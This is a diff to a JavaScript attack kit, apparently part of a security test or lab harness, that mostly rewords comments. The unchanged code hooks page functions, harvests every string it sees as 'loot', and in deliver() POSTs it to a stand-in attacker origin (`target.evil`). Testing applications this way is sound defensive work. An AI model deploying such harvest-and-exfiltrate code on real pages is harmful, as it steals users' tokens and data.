@@ -1,12 +1,11 @@
 /**
- * What an attacker brings along. Runs in the page, before every script of its own, so it stands alone.
+ * Returns the tools of an attack. The function runs in the page, before the page's own scripts, and refers to nothing else.
  *
- * Nothing here knows a token: it keeps all that it sees, by the place where it was seen, and whoever runs the attack
- * looks for the genuine secrets in that. So the same attack robs a weak page, and the day it robs ours, ours is weak.
+ * The tools know no token. They keep everything that an attack sees, by the place where it was seen; the test or the lab
+ * looks for genuine secrets in that. So one attack can take a token from a weak page, and would from ours if ours were weak.
  *
- * `target` says where the victim's worker script is (`script`), where the attacker listens (`evil`), and where on the
- * victim's own origin a script of the attacker's lies (`upload`); `echo` and `redirect` are careless handlers of its
- * server, and `note` is what to write, where that matters.
+ * `target` describes the application: the path of its worker's script (`script`), the attacker's origin (`evil`), the path
+ * of the attacker's upload (`upload`), two careless handlers (`echo`, `redirect`), and the text to write (`note`).
  */
 export function tools(target) {
   const loot = new Map();
@@ -20,7 +19,7 @@ export function tools(target) {
     for (let at = 0; at < bytes.length && at < 200_000; at++) text += fromCharCode(bytes[at]);
     return text;
   };
-  /** Keeps every text in `value`, as deep as it goes. */
+  /** Keeps every text in `value`, at most six levels deep. */
   const keep = (place, value, depth = 0) => {
     if (depth > 6 || value === null || value === undefined) return;
     if (!loot.has(place)) loot.set(place, new Set());
@@ -37,7 +36,7 @@ export function tools(target) {
       }
     }
   };
-  /** Hears what goes into a function and what comes out of it. */
+  /** Keeps what goes into a function and what comes out of it. */
   const wrap = (owner, name) => {
     const original = owner?.[name];
     if (typeof original !== 'function') return;
@@ -57,14 +56,14 @@ export function tools(target) {
   };
   const { then } = Promise.prototype;
   const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
-  /** What came of an attempt: what `act` says, or the name of what it threw. A silence is not taken for a refusal. */
+  /** Returns what `act` returns, or the name of its error, or 'silence' if it does not end in time: that is no refusal. */
   const attempt = (act, patience = 5000) => {
     const patient = pause(patience).then(() => 'silence');
-    // What the debugger calls may use eval; what a timer calls is the page's own.
+    // Code that the debugger calls may use eval. Code that a timer calls is subject to the page's policy.
     const tried = pause(0).then(act).then((said) => said ?? 'done', (error) => error?.name ?? 'error');
     return Promise.race([tried, patient]);
   };
-  /** Makes the application work, as a person would: writes a note, and waits until the page shows it. */
+  /** Uses the application as a person would: writes a comment, and waits until the page shows it. */
   const work = async (text = target.note ?? `note ${Math.random()}`, patience = 5000) => {
     document.querySelector('#write [name=text]').value = text;
     document.querySelector('#write button').click();
@@ -73,7 +72,7 @@ export function tools(target) {
     }
     return 'not written';
   };
-  /** All that was seen, sent to the attacker as far as the page lets it go. */
+  /** Returns everything that was seen, and tries to send it to the attacker's server too. */
   const deliver = async () => {
     const seen = Object.fromEntries([...loot].map(([place, texts]) => [place, [...texts]]));
     const sent = fetch(`${target.evil}/loot`, { method: 'POST', mode: 'no-cors', body: stringify(seen) });
